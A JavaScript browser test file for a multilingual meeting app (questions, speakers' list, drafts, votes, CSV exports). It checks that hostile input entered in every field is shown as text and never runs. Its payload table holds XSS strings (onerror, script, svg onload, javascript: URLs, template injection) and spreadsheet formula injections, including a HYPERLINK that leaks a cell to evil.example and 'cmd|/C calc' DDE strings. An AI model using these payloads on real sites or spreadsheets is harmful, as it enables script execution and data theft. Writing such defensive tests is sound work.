// Hostile text everywhere people can type it, in a real Chromium (issue 11, item 7). Markup,
// script, template and `javascript:` payloads, spreadsheet formulas, Markdown and table
// syntax, emoji and combining marks, strings at their length limits go into the session
// definition (title, reference, venue, agenda titles and speakers, drafts, also by language),
// questions and askers' names, requests to speak, the roster (names, organisations), drafts
// created and edited by the rapporteur, the rapporteur's notes, and items inserted and updated
// on the live agenda. Control and direction-override characters are refused with a clean
// `invalid`. Every page (phone at 390×844 in English and French, projector at 1920×1080, the
// console, the rapporteur page, the editor with the definition imported and loaded as a
// template) is driven through the states that show those strings; each must show them as
// text, and nothing may run: no dialog, no `window.__pwned`, no element or `on*` attribute
// made from them (a MutationObserver sees even a passing one), no Content-Security-Policy
// violation. The exports too: record.html and the voting cards (loaded once without any CSP,
// so an injected handler would run, and once as served), record.md (Markdown escaped: no raw
// link, tag or table cell from the room), results.csv and the roster codes CSV (a cell that
// would start a formula is prefixed with `'`).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import {
  createSession, useServerAndBrowser, send, tid, storeName, PHONE, PROJECTOR, LAPTOP,
} from './harness.mjs';

const room = useServerAndBrowser();

const PHONE_390 = { ...PHONE, viewport: { width: 390, height: 844 } };
const CONSOLE = { ...LAPTOP, viewport: { width: 1366, height: 900 } };

// ------------------------------------------------------------------------- the strings

const H = {
  img: '<img src=x onerror="window.__pwned=(window.__pwned||0)+1">',
  script: '<script>window.__pwned=1</script>',
  svg: '"><svg onload=window.__pwned=1>',
  jsUrl: 'javascript:window.__pwned=1',
  tpl: "{{constructor.constructor('window.__pwned=1')()}}",
  textarea: '</textarea><img src=x onerror=window.__pwned=1>',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  plus: '+cmd|\' /C calc\'!A0',
  at: '@SUM(A1:A9)*cmd|\' /C calc\'!A0',
  minus: '-2+3+cmd|\' /C calc\'!A0',
  table: '| col | col |\n|---|---|\n| x | y |\n# Forged heading',
  mdLink: '[x](javascript:alert(1))',
  // Emoji with a skin tone and a joiner, a flag, combining marks (stacked, and some that NFC
  // composes), Arabic (right to left by nature, no override), a ligature, a mathematical letter.
  emoji: '👩🏽‍⚖️ 🇲🇦 Zoë Z\u0324\u0308a\u0300\u0301\u0302 مرحبا بكم ﷽ 𝕏',
};
/** What the server keeps: trimmed and in NFC. */
const nfc = (s) => s.normalize('NFC');
/** Characters as the server counts them (code points). */
const chars = (s) => [...s].length;
/** `s` padded with `é` to exactly `n` characters. */
const fit = (s, n) => {
  let out = s;
  while (chars(out) < n) out += 'é';
  assert.equal(chars(out), n);
  return out;
};
const RLO = 'invoice\u202Egpj.exe';
/** The end of a draft text of exactly 20,000 characters (the limit). */
const LONG_TAIL = ' <b>end of the 20,000</b>';

// The session definition: every text field hostile, some by language.
const definition = {
  title: { en: fit(`${H.img} ${H.script} ${H.emoji} `, 200), fr: `${H.svg} ${H.tpl}` },
  reference: H.formula,
  venue: H.textarea,
  languages: ['en', 'fr'],
  agenda: [
    { title: H.tpl, kind: 'intro', minutes: 5, speakers: [H.img, { en: H.svg, fr: H.jsUrl }] },
    { title: { en: H.script, fr: H.textarea }, kind: 'debate', minutes: 30, speakers: [H.mdLink, H.emoji] },
    { title: H.formula, kind: 'adoption', minutes: 20, speakers: [H.at] },
  ],
  drafts: [
    { kind: 'resolution', title: { en: H.img, fr: H.svg }, text: { en: `${H.script}\n\n${H.table}\n${H.mdLink}\n${H.emoji}`, fr: `${H.textarea}\n${H.tpl}` } },
    { kind: 'recommendation', title: H.formula, text: `${fit(`${H.jsUrl}\n${H.img}\n`, 20000 - chars(LONG_TAIL))}${LONG_TAIL}` },
    { kind: 'resolution', title: H.plus, text: H.svg },
    { kind: 'resolution', title: H.at, text: H.tpl },
    { kind: 'recommendation', title: H.minus, text: H.textarea },
  ],
  settings: { moderate_questions: true, anonymous_questions: true, voting: 'roster' },
};

/** One CSV line, every cell quoted. */
const csvLine = (cells) => cells.map((c) => `"${String(c).replace(/"/g, '""')}"`).join(',');
const roster = [
  [H.img, H.script, 2],
  [H.formula, H.plus, 1],
  [H.at, H.minus, 1],
  [H.svg, H.textarea, 1],
  [fit(`${H.emoji} `, 120), fit(`${H.mdLink} ${H.tpl} `, 200), 1],
];
const rosterCsv = `name,organisation,weight\n${roster.map(csvLine).join('\n')}\n`;

/** A CSV document as rows of cells (quotes, doubled quotes, CRLF; a BOM dropped). */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  const s = text.replace(/^\ufeff/, '');
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else if (c !== '\r') cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * The voting codes as CSV (from the server, or built by the console): one line per roster
 * entry, each name and organisation as typed, `'` first where it would start a formula.
 * Returns the lines as objects.
 */
function checkCodesCsv(rows, label) {
  const [header, ...lines] = rows;
  for (const k of ['name', 'organisation', 'code']) assert.ok(header.includes(k), `${label}: a ${k} column (${header})`);
  const data = lines.filter((x) => x.length > 1).map((x) => Object.fromEntries(header.map((k, i) => [k, x[i]])));
  assert.equal(data.length, roster.length, label);
  for (const [i, line] of data.entries()) {
    for (const cell of Object.values(line)) assert.doesNotMatch(cell, FORMULA_START, `${label}, line ${i + 2}: a cell that starts a formula: ${cell}`);
    for (const [k, raw] of [['name', roster[i][0]], ['organisation', roster[i][1]]]) {
      assert.equal(line[k], FORMULA_START.test(raw) ? `'${nfc(raw)}` : nfc(raw), `${label}, line ${i + 2}, ${k}`);
    }
  }
  return data;
}

// ------------------------------------------------------------------------- the watchers

/**
 * Runs in every page before its own scripts (through the DevTools protocol, which the pages'
 * CSP does not govern): notes every element made from markup that should have stayed text, as
 * it appears (even if removed at once), and every CSP violation.
 */
function guard() {
  const seen = { injected: [], csp: [] };
  Object.defineProperty(window, '__hostile', { value: seen });
  const suspicious = (el) => {
    const on = el.getAttributeNames().filter((n) => n.toLowerCase().startsWith('on'));
    if (on.length) return `<${el.localName} ${on.join(' ')}>`;
    if (el.localName === 'script' && !el.getAttribute('src')) return 'an inline <script>';
    if (el.localName === 'img' && el.getAttribute('src') === 'x') return '<img src=x>';
    const href = el.getAttribute('href') || el.getAttribute('xlink:href');
    if (href && /^\s*javascript:/i.test(href)) return `<${el.localName} href=javascript:…>`;
    return null;
  };
  const check = (el) => {
    const why = el instanceof Element ? suspicious(el) : null;
    if (why) seen.injected.push(`${why} in ${el.parentElement?.closest('[data-testid]')?.dataset.testid || el.parentElement?.localName || '?'}`);
  };
  const scan = (node) => {
    if (!(node instanceof Element)) return;
    check(node);
    for (const el of node.querySelectorAll('*')) check(el);
  };
  new MutationObserver((records) => {
    for (const r of records) {
      if (r.type === 'attributes') check(r.target);
      for (const n of r.addedNodes) scan(n);
    }
  }).observe(document, { subtree: true, childList: true, attributes: true });
  document.addEventListener('securitypolicyviolation', (e) => {
    seen.csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample || ''}`.trim());
  });
}

/** Everything a context's pages (popups included) say or ask: dialogs, errors, warnings. */
function watchContext(context) {
  const seen = { dialogs: [], console: [] };
  const attach = (page) => {
    page.on('dialog', (d) => {
      seen.dialogs.push(`${d.type()}: ${d.message()}`);
      d.dismiss().catch(() => {});
    });
    page.on('console', (m) => {
      const text = m.text();
      if (/pwned|Content Security Policy|inline/i.test(text) || m.type() === 'error') seen.console.push(`${m.type()}: ${text}`);
    });
    page.on('pageerror', (e) => seen.console.push(`pageerror: ${e.message}`));
  };
  context.on('page', attach);
  return seen;
}

async function openPage(options, url) {
  const context = await room.browser.newContext(options);
  await context.addInitScript(guard);
  const seen = watchContext(context);
  const page = await context.newPage();
  await page.goto(url);
  await page.waitForSelector(`${tid('conn-state')}[data-state="online"]`);
  return { context, page, seen };
}

/**
 * Nothing ran, nothing was made from the room's text, nobody was asked anything. `allow`: console
 * errors expected there.
 */
async function assertClean(page, seen, label, allow = null) {
  const got = await page.evaluate(() => ({
    pwned: window.__pwned,
    injected: window.__hostile?.injected ?? ['(the guard did not run)'],
    csp: window.__hostile?.csp ?? [],
    // What is in the page now, besides what the observer saw come and go.
    now: [...document.querySelectorAll('*')].filter((el) => el.getAttributeNames().some((n) => n.toLowerCase().startsWith('on'))
      || (el.localName === 'script' && !el.getAttribute('src'))
      || (el.localName === 'img' && el.getAttribute('src') === 'x')).map((el) => el.outerHTML.slice(0, 120)),
  }));
  assert.equal(got.pwned, undefined, `${label}: window.__pwned was set`);
  assert.deepEqual(got.injected, [], `${label}: elements made from user text`);
  assert.deepEqual(got.now, [], `${label}: elements made from user text`);
  assert.deepEqual(got.csp, [], `${label}: CSP violations (something tried to run)`);
  assert.deepEqual(seen.dialogs, [], `${label}: dialogs`);
  assert.deepEqual(seen.console.filter((x) => !allow?.test(x)), [], `${label}: console`);
}

/** Resolves once some element matching `sel` has `text` (in NFC) in its text. */
const shows = (page, sel, text, label = sel) => page.waitForFunction(
  ([s, x]) => [...document.querySelectorAll(s)].some((el) => el.textContent.includes(x)),
  [sel, nfc(text)],
  { timeout: 10000 },
).catch(async (e) => {
  const texts = await page.$$eval(sel, (els) => els.map((el) => el.textContent.slice(0, 300)));
  throw new Error(`${label}: ${JSON.stringify(nfc(text))} not shown in ${sel}; found ${JSON.stringify(texts)}\n${e.message}`);
});
/** The value of a form field is exactly `text` (as the server keeps it with `nfc`, or as typed). */
const valueIs = (page, sel, text) => page.waitForFunction(
  ([s, x]) => document.querySelector(s)?.value === x, [sel, text], { timeout: 10000 },
).catch(async (e) => {
  const got = await page.$$eval(sel, (els) => els.map((el) => el.value?.slice(0, 300)));
  throw new Error(`${sel}: value is not ${JSON.stringify(text.slice(0, 300))}; found ${JSON.stringify(got)}\n${e.message}`);
});

async function ok(page, op, fields) {
  const r = await send(page, op, fields);
  assert.equal(r.status, 'acked', `${op}: ${JSON.stringify(r.error)}`);
  return r.result;
}
/** The command is refused with `invalid`, its message naming the problem, not echoing the text. */
async function refused(page, op, fields, why = /control characters|longer than/) {
  const r = await send(page, op, fields);
  assert.equal(r.status, 'refused', `${op} should be refused: ${JSON.stringify(fields).slice(0, 200)}`);
  assert.equal(r.error.code, 'invalid', `${op}: ${JSON.stringify(r.error)}`);
  assert.match(r.error.message, why, `${op}: ${r.error.message}`);
  for (const v of Object.values(fields)) {
    if (typeof v === 'string' && v.length > 3) assert.ok(!r.error.message.includes(v.slice(0, 8)), `${op}: the refusal echoes the text: ${r.error.message}`);
  }
}

const api = (path, key, init = {}) => fetch(`${room.server.base}${path}`, {
  ...init, headers: { ...(init.headers || {}), ...(key ? { Authorization: `Bearer ${key}` } : {}) },
});

// ------------------------------------------------------------------------- the tests

test(`the watchers see markup that ran or was made from text (a control) (${storeName})`, async () => {
  // Without a CSP, the <img onerror> payload runs; on a live page, with its CSP, it is refused
  // and reported; either way the observer sees the element come.
  const context = await room.browser.newContext();
  await context.addInitScript(guard);
  const seen = watchContext(context);
  const page = await context.newPage();
  await page.setContent(`<p>${H.img}</p>`);
  await page.waitForFunction(() => window.__pwned === 1);
  const live = await context.newPage();
  await live.goto(`${room.server.base}/`);
  await live.evaluate((html) => document.body.insertAdjacentHTML('beforeend', html), H.img);
  await live.waitForFunction(() => window.__hostile.csp.length > 0);
  assert.deepEqual(await live.evaluate(() => window.__hostile.injected), ['<img onerror> in body']);
  assert.equal(await live.evaluate(() => window.__pwned), undefined, 'the CSP refused the handler');
  assert.deepEqual(seen.dialogs, []);
  await context.close();
});

test(`hostile text is shown as text on every page and in every export; nothing runs (${storeName})`, async () => {
  const base = room.server.base;
  const check = (body) => api('/api/definitions/check', null, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

  // ---- Refused at the door: control and direction-override characters, over-long texts.
  for (const [what, def, path] of [
    ['an override in the title', { ...definition, title: RLO }, 'title'],
    ['an isolate in an agenda title', { ...definition, agenda: [{ title: 'a\u2066b\u2069c' }] }, 'agenda[0].title'],
    ['a control character in a speaker', { ...definition, agenda: [{ title: 'x', speakers: ['bell\u0007'] }] }, 'agenda[0].speakers[0]'],
    ['a control character in the reference', { ...definition, reference: 'ref\u0000' }, 'reference'],
    ['an override in a draft text (by language)', { ...definition, drafts: [{ kind: 'resolution', title: 't', text: { en: RLO } }] }, 'drafts[0].text'],
    ['a title of 201 characters', { ...definition, title: fit(H.img, 201) }, 'title'],
  ]) {
    const res = await check(def);
    assert.equal(res.status, 400, what);
    const body = await res.json();
    assert.equal(body.error.code, 'invalid', what);
    assert.ok(body.error.fields?.some((f) => f.path.startsWith(path)), `${what}: the problem at ${path}: ${JSON.stringify(body.error.fields)}`);
    assert.ok(!JSON.stringify(body).includes('gpj.exe') && !body.error.message.includes('<img'), `${what}: the refusal does not echo the text`);
  }
  // (The reference and the venue are read with a looser rule than every other text: they refuse
  // control characters but take direction overrides. Whatever the server does with one, the
  // answer is clean: a 400 `invalid`, or the text kept as typed.)
  {
    const res = await check({ ...definition, venue: RLO });
    if (res.status === 400) assert.equal((await res.json()).error.code, 'invalid');
    else assert.equal((await res.json()).definition.venue, RLO);
  }
  {
    const res = await api('/api/roster/check', null, { method: 'POST', headers: { 'content-type': 'text/csv' }, body: `name,organisation,weight\n${csvLine([RLO, 'x', 1])}\n` });
    assert.equal(res.status, 400);
    const body = await res.json();
    assert.equal(body.error.code, 'invalid');
    assert.equal(body.error.fields[0].path, 'line 2');
  }

  // ---- The session, its roster (as JSON, then again asking for the codes as CSV).
  const created = await createSession(base, definition);
  const { id, moderator_key: mkey, rapporteur_key: rkey } = created;
  {
    const res = await api(`/api/sessions/${id}/roster`, mkey, { method: 'PUT', headers: { 'content-type': 'text/csv' }, body: rosterCsv });
    assert.equal(res.status, 200);
    const { entries } = await res.json();
    assert.deepEqual(entries.map((e) => [e.name, e.organisation, e.weight]), roster.map(([n, o, w]) => [nfc(n), nfc(o), w]), 'kept as typed');
  }
  const codesRes = await api(`/api/sessions/${id}/roster`, mkey, { method: 'PUT', headers: { 'content-type': 'text/csv', Accept: 'text/csv' }, body: rosterCsv });
  assert.equal(codesRes.status, 200);
  const codeData = checkCodesCsv(parseCsv(await codesRes.text()), 'the codes CSV (server)');
  const codes = codeData.map((r) => r.code);

  // ---- Every live page, at its size.
  const [moderator, rapporteur, phoneA, phoneB, screen] = await Promise.all([
    openPage({ ...CONSOLE, locale: 'en-GB' }, created.links.moderator),
    openPage({ ...CONSOLE, locale: 'en-GB' }, created.links.rapporteur),
    openPage({ ...PHONE_390, locale: 'en-GB' }, created.links.participant),
    openPage({ ...PHONE_390, locale: 'fr-FR' }, created.links.participant),
    openPage({ ...PROJECTOR, locale: 'en-GB' }, created.links.screen),
  ]);
  const m = moderator.page;
  const r = rapporteur.page;
  const a = phoneA.page;
  const b = phoneB.page;
  const s = screen.page;

  // The definition's texts, each in the page's language.
  for (const page of [m, a, s, r]) await shows(page, tid('session-title'), definition.title.en, 'session title (en)');
  await shows(b, tid('session-title'), definition.title.fr, 'session title (fr)');
  await shows(a, tid('session-ref'), `${H.formula} · ${H.textarea}`, 'reference · venue');
  await shows(s, tid('session-ref'), H.formula, 'screen reference');

  // Started: the first item and its speakers everywhere.
  await ok(m, 'agenda.next');
  for (const page of [m, a, b, s]) await shows(page, tid('current-title'), H.tpl, 'current item');
  await shows(a, tid('current-speakers'), H.img);
  await shows(a, tid('current-speakers'), H.svg);
  await shows(b, tid('current-speakers'), H.jsUrl);
  await shows(s, tid('current-speakers'), H.img);
  await shows(b, `${tid('agenda')} ${tid('agenda-item')}`, H.textarea, 'agenda (fr)');
  await shows(a, `${tid('agenda')} ${tid('agenda-item')}`, H.formula, 'agenda');

  // Each phone holds a roster entry: its name shown.
  await ok(a, 'voter.claim', { code: codes[0] });
  await ok(b, 'voter.claim', { code: codes[3] });
  await shows(a, tid('voter-name'), H.img);
  await shows(b, tid('voter-name'), H.svg);

  // ---- The debate: questions from the phones' form and client, with names.
  await ok(m, 'agenda.goto', { item: 1 });
  await a.waitForFunction(() => window.__palabre.state?.qa_open === true);
  await b.waitForFunction(() => window.__palabre.state?.qa_open === true);
  for (const page of [a, b, s]) await shows(page, tid('current-title'), page === b ? H.textarea : H.script, 'the debate');
  await shows(s, tid('current-speakers'), H.mdLink);

  const questions = [
    { page: a, text: `${H.textarea} ${H.tpl} ${H.jsUrl}`, name: H.svg, form: true },
    { page: a, text: fit(`${H.img} ${H.script} ${H.mdLink} `, 500), name: fit(`${H.svg} ${H.emoji} `, 80) },
    { page: a, text: `${H.table}\n${H.emoji}`, name: H.mdLink },
    { page: b, text: H.formula, name: H.plus },
    { page: b, text: `${H.mdLink} ${H.script}`, name: null },
  ];
  await refused(a, 'question.ask', { text: RLO });
  await refused(a, 'question.ask', { text: 'Une question', name: 'Awa\u202E' });
  await refused(a, 'question.ask', { text: fit(H.img, 501) });
  await refused(b, 'question.ask', { text: 'bell\u0007' });
  for (const q of questions) {
    if (q.form) {
      await q.page.waitForSelector(tid('ask-form'), { state: 'visible' });
      await q.page.fill(tid('ask-text'), q.text);
      await q.page.fill(tid('ask-name'), q.name);
      await q.page.click(tid('ask-submit'));
      q.id = await q.page.waitForFunction(
        (text) => window.__palabre.state.questions.find((x) => x.mine && x.text === text)?.id, nfc(q.text),
      ).then((h) => h.jsonValue());
    } else {
      const res = await ok(q.page, 'question.ask', q.name ? { text: q.text, name: q.name } : { text: q.text });
      assert.equal(res.question.text, nfc(q.text));
      q.id = res.question.id;
    }
  }
  // The asker's own pending questions, as text.
  await shows(a, tid('my-question'), questions[0].text, 'my question');
  await shows(b, tid('my-question'), questions[3].text, 'my question (fr)');
  // The console: every pending question and who asked; approved, one on screen, one answered.
  for (const q of questions) {
    await shows(m, `${tid('mod-question')}[data-id="${q.id}"]`, q.text, 'console question');
    if (q.name) await shows(m, `${tid('mod-question')}[data-id="${q.id}"]`, q.name, 'console asker');
  }
  for (const q of questions) await ok(m, 'question.approve', { question: q.id });
  // Approved and nothing on screen: the projector lists the top questions.
  await shows(s, tid('screen-question'), questions[0].text, 'screen top questions');
  // A phone typing a question sees the approved ones that look alike; the console suggests
  // merging a near duplicate, and the asker's phone follows the merge.
  await b.fill(tid('ask-text'), `${H.img} ${H.script} ${H.mdLink}`);
  await shows(b, tid('similar-item'), questions[1].text, 'phone similar questions');
  await b.fill(tid('ask-text'), '');
  const dup = await ok(b, 'question.ask', { text: `${H.tpl} ${H.textarea} ${H.jsUrl} !` });
  await shows(m, `${tid('mod-question')}[data-id="${dup.question.id}"] ${tid('dup-suggestion')}`, questions[0].text, 'console duplicate suggestion');
  await ok(m, 'question.merge', { question: dup.question.id, into: questions[0].id });
  await b.waitForSelector(`${tid('my-question')}[data-id="${dup.question.id}"][data-status="merged"] ${tid('merged-link')}`);
  await ok(m, 'question.highlight', { question: questions[1].id });
  await ok(m, 'question.answer', { question: questions[2].id });
  await ok(b, 'question.upvote', { question: questions[0].id });
  for (const page of [a, b]) {
    for (const q of [questions[0], questions[1], questions[3], questions[4]]) await shows(page, `${tid('questions-list')} ${tid('question')}`, q.text, 'phone questions');
    await shows(page, `${tid('answered')} ${tid('question')}`, questions[2].text, 'phone answered');
  }
  await shows(a, `${tid('questions-list')} ${tid('question')}`, questions[1].name, 'phone asker name');
  await shows(s, tid('highlighted-question'), questions[1].text, 'screen highlight');
  await shows(s, tid('highlighted-question'), questions[1].name, 'screen highlight name');
  await shows(m, tid('q-onscreen'), questions[1].text, 'console on screen');

  // ---- The list of speakers: one request from the phone's form, one from its client.
  const orgA = fit(`${H.script} ${H.svg} `, 120);
  await refused(b, 'floor.request', { name: 'bell\u0007', organisation: 'x' });
  await refused(b, 'floor.request', { name: 'Jean', organisation: 'Kati\u2066x\u2069' });
  await a.waitForSelector(tid('floor-form'), { state: 'visible' });
  await a.fill(tid('floor-name'), H.img);
  await a.fill(tid('floor-org'), orgA);
  await a.click(tid('floor-request'));
  await ok(b, 'floor.request', { name: H.formula, organisation: H.textarea });
  await shows(m, tid('floor-entry'), H.img, 'console queue');
  await shows(m, tid('floor-entry'), orgA, 'console queue organisation');
  await shows(m, tid('floor-entry'), H.formula, 'console queue');
  const reqA = await m.evaluate((n) => window.__palabre.state.floor.queue.find((x) => x.name === n)?.id, nfc(H.img));
  assert.ok(reqA, 'the phone’s request is in the queue');
  await ok(m, 'floor.grant', { request: reqA });
  await shows(m, tid('floor-speaking'), H.img, 'console speaking');
  await shows(s, tid('floor-speaking'), H.img, 'screen speaking');
  await shows(s, tid('floor-speaking'), orgA, 'screen speaking organisation');
  await shows(s, tid('floor-next'), H.formula, 'screen next');
  await shows(b, tid('floor-now'), H.img, 'phone: who speaks');

  // ---- The rapporteur: notes (the form, the client), a draft edited, a draft created.
  await shows(r, tid('rec-question'), questions[2].text, 'record question');
  await shows(r, tid('rec-question'), questions[2].name, 'record asker');
  const note = `${H.img}\n${H.table}\n${H.mdLink} ${H.jsUrl}`;
  await r.fill(tid('note-text'), note);
  await r.click(tid('note-submit'));
  await r.waitForFunction((n) => [...document.querySelectorAll('[data-testid="note"]')].some((li) => li.textContent.includes(n)), nfc(H.img));
  const longNote = fit(`${H.textarea}\n${H.script}\n${H.emoji}\n`, 5000);
  await ok(r, 'record.note', { text: longNote });
  await refused(r, 'record.note', { text: `note ${RLO}` });
  await refused(r, 'record.note', { text: fit('x', 5001) });
  await shows(r, tid('note'), H.table.split('\n')[0], 'note list');
  await shows(r, tid('rec-note'), H.img, 'record note');
  await shows(r, tid('rec-note'), longNote.slice(0, 200), 'record long note');

  const draftSel = (d, inner) => `${tid('draft')}[data-id="${d}"]${inner ? ` ${tid(inner)}` : ''}`;
  await shows(r, draftSel('d2'), `éé${LONG_TAIL}`, 'the longest draft, whole');
  const frEdited = `${H.textarea}\n${H.tpl}\n${H.script} — amendé`;
  await r.click(draftSel('d1', 'draft-edit'));
  const frBox = `${draftSel('d1', 'draft-edit-text')}[data-lang="fr"]`;
  // The editing box holds the hostile text as its value (a `</textarea>` does not close it).
  await valueIs(r, frBox, nfc(definition.drafts[0].text.fr));
  await valueIs(r, `${draftSel('d1', 'draft-edit-text')}[data-lang="en"]`, nfc(definition.drafts[0].text.en));
  await r.fill(frBox, frEdited);
  await r.click(draftSel('d1', 'draft-edit-save'));
  await r.waitForSelector(`${draftSel('d1', 'diff')}[data-lang="fr"][data-changed="true"]`);
  await shows(r, `${draftSel('d1', 'diff')}[data-lang="fr"] ins`, H.script, 'diff, added');
  await shows(r, `${draftSel('d1', 'diff')}[data-lang="fr"]`, H.textarea, 'diff, kept');
  await refused(r, 'draft.edit', { draft: 'd2', text: `x ${RLO}` });
  await refused(r, 'draft.create', { kind: 'resolution', title: RLO, text: 'x' });

  await r.click(tid('draft-new'));
  await r.waitForSelector(tid('draft-form'));
  await r.check(`${tid('new-kind')}[value="recommendation"]`);
  await r.fill(`${tid('new-title')}[data-lang="en"]`, H.svg);
  await r.fill(`${tid('new-title')}[data-lang="fr"]`, H.textarea);
  await r.fill(`${tid('new-text')}[data-lang="en"]`, `${H.img}\n${H.table}`);
  await r.click(tid('new-submit'));
  await r.waitForFunction(() => window.__palabre.state.drafts.length === 6);
  const made = await r.evaluate(() => window.__palabre.state.drafts.at(-1));
  assert.deepEqual(made.title, { en: nfc(H.svg), fr: nfc(H.textarea) });
  await shows(r, draftSel(made.id), H.svg, 'rapporteur, new draft');
  await shows(m, `${tid('draft-row')}[data-id="${made.id}"]`, H.svg, 'console, new draft');
  // The moderator drafts one too, through the client.
  const madeByMod = await ok(m, 'draft.create', { kind: 'resolution', title: { en: H.tpl, fr: H.jsUrl }, text: { fr: H.script } });
  await shows(r, draftSel(madeByMod.draft), H.tpl, 'rapporteur, the moderator’s draft');

  // ---- The live agenda: an item inserted from the console's form, a held item retitled.
  await m.click(tid('agenda-edit'));
  const row = (item) => `${tid('agenda')} > ${tid('agenda-item')}[data-id="${item}"]`;
  await m.click(`${row('a2')} ${tid('ag-insert')}`);
  await m.waitForSelector(`${tid('ag-form')}[data-mode="insert"]`, { state: 'visible' });
  await m.fill(`${tid('ag-form-title')}[data-lang="en"]`, H.svg);
  await m.fill(`${tid('ag-form-title')}[data-lang="fr"]`, H.img);
  await m.fill(`${tid('ag-form-speakers')}[data-lang="en"]`, H.script);
  await m.fill(`${tid('ag-form-speakers')}[data-lang="fr"]`, H.tpl);
  await m.fill(tid('ag-form-minutes'), '5');
  await m.click(tid('ag-form-save'));
  await m.waitForFunction(() => window.__palabre.state.agenda.items.length === 4);
  const inserted = await m.evaluate(() => window.__palabre.state.agenda.items[2]);
  assert.deepEqual(inserted.title, { en: nfc(H.svg), fr: nfc(H.img) });
  await ok(m, 'agenda.update', { item: 'a1', title: `${H.textarea} ${H.jsUrl}`, speakers: [H.mdLink] });
  await refused(m, 'agenda.update', { item: 'a1', title: RLO });
  await refused(m, 'agenda.insert', { at: 3, item: { title: 'nul\u0000', kind: 'other', minutes: 1 } }, /control characters/);
  // (The screen has no agenda list: it shows what comes next.)
  await shows(s, tid('next-up'), H.svg, 'screen: next up');
  for (const page of [a, m]) {
    await shows(page, `${tid('agenda')} ${tid('agenda-item')}[data-id="${inserted.id}"]`, H.svg, 'inserted item');
    await shows(page, `${tid('agenda')} ${tid('agenda-item')}[data-id="a1"]`, `${H.textarea} ${H.jsUrl}`, 'updated item');
  }
  await shows(b, `${tid('agenda')} ${tid('agenda-item')}[data-id="${inserted.id}"]`, H.img, 'inserted item (fr)');
  await m.click(tid('agenda-edit'));

  // ---- The votes: d1 by the two phones, with the screen; then one poll per formula title.
  await ok(m, 'floor.end', { request: reqA });
  await ok(m, 'question.highlight', { question: null });
  const adoption = await m.evaluate(() => window.__palabre.state.agenda.items.findIndex((i) => i.id === 'a3'));
  await ok(m, 'agenda.goto', { item: adoption });
  for (const page of [a, s]) await shows(page, tid('current-title'), H.formula, 'the adoption');
  const { poll } = await ok(m, 'poll.open', { draft: 'd1' });
  const card = `${tid('vote-card')}[data-poll="${poll}"]`;
  await shows(a, `${card} ${tid('vote-draft-title')}`, H.img, 'ballot title');
  await shows(a, `${card} ${tid('vote-draft-text')}`, H.script, 'ballot text');
  await shows(a, `${card} ${tid('vote-draft-text')}`, H.mdLink, 'ballot text');
  await shows(b, `${card} ${tid('vote-draft-title')}`, H.svg, 'ballot title (fr)');
  await shows(b, `${card} ${tid('vote-draft-text')}`, `${H.script} — amendé`, 'ballot text (fr, as edited)');
  await shows(s, tid('screen-vote-title'), H.img, 'screen ballot title');
  await shows(s, tid('screen-vote-text'), H.script, 'screen ballot text');
  await a.click(`${card} ${tid('vote-for')}`);
  await ok(b, 'vote.cast', { poll, choice: 'against' });
  await m.waitForFunction((p) => window.__palabre.state.polls.find((x) => x.id === p)?.cast === 2, poll);
  await ok(m, 'poll.close', { poll });
  await s.waitForSelector(`${tid('screen-vote')}[data-status="closed"]`);
  assert.equal(await s.getAttribute(tid('screen-outcome'), 'data-outcome'), 'adopted', 'weights 2 for, 1 against');
  await shows(s, tid('screen-vote-title'), H.img, 'screen outcome title');
  await a.waitForSelector(`${card}[data-status="closed"]`);
  for (const d of ['d2', 'd3', 'd4', 'd5']) {
    const opened = await ok(m, 'poll.open', { draft: d });
    await ok(m, 'poll.close', { poll: opened.poll });
  }
  await shows(m, `${tid('draft-row')}[data-id="d2"]`, H.formula, 'console draft');
  await shows(m, `${tid('draft-row')}[data-id="d5"]`, H.minus, 'console draft');
  await shows(a, `${tid('past-poll')}`, H.plus, 'phone past polls');
  await shows(r, `${tid('rec-text')}[data-id="d1"]`, H.img, 'record text');

  // ---- The console's roster: a hostile CSV previewed.
  await m.waitForSelector(tid('roster-panel'), { state: 'visible' });
  await m.fill(tid('roster-text'), rosterCsv);
  await m.click(tid('btn-roster-check'));
  await m.waitForSelector(tid('roster-preview-row'));
  for (const [name, org] of roster) {
    await shows(m, tid('roster-preview-row'), name, 'roster preview name');
    await shows(m, tid('roster-preview-row'), org, 'roster preview organisation');
  }

  // Uploaded from the console, replacing the roster in place: the codes CSV the page builds, and
  // the voting cards it opens (a blob: page under the console's CSP).
  await m.click(tid('btn-roster-upload'));
  await m.click(tid('btn-roster-replace'));
  await m.waitForSelector(`${tid('btn-codes-csv')}:not([disabled])`);
  const [download] = await Promise.all([m.waitForEvent('download'), m.click(tid('btn-codes-csv'))]);
  checkCodesCsv(parseCsv(readFileSync(await download.path(), 'utf8')), 'the codes CSV (console)');
  const [cards] = await Promise.all([moderator.context.waitForEvent('page'), m.click(tid('btn-cards'))]);
  await cards.waitForLoadState();
  for (const [name, org] of roster) {
    await shows(cards, 'body', name, 'voting cards (console)');
    await shows(cards, 'body', org, 'voting cards (console)');
  }
  await assertClean(cards, moderator.seen, 'voting cards (console)');
  await cards.close();

  // ---- Every live page: nothing ran.
  for (const [p, label] of [[m, 'moderator'], [r, 'rapporteur'], [a, 'phone (en)'], [b, 'phone (fr)'], [s, 'screen']]) {
    const { seen } = [moderator, rapporteur, phoneA, phoneB, screen].find((x) => x.page === p);
    await assertClean(p, seen, label);
  }

  // ---- The exports.
  // record.html, as served (with its own CSP) and as bare HTML in a page without any CSP.
  const userTexts = [questions[0].text, questions[1].name, H.img, orgA, note.split('\n')[0], H.formula];
  const exported = async (path, key, texts, label) => {
    const res = await api(path, key);
    assert.equal(res.status, 200, `${label}: ${res.status}`);
    const html = await res.text();
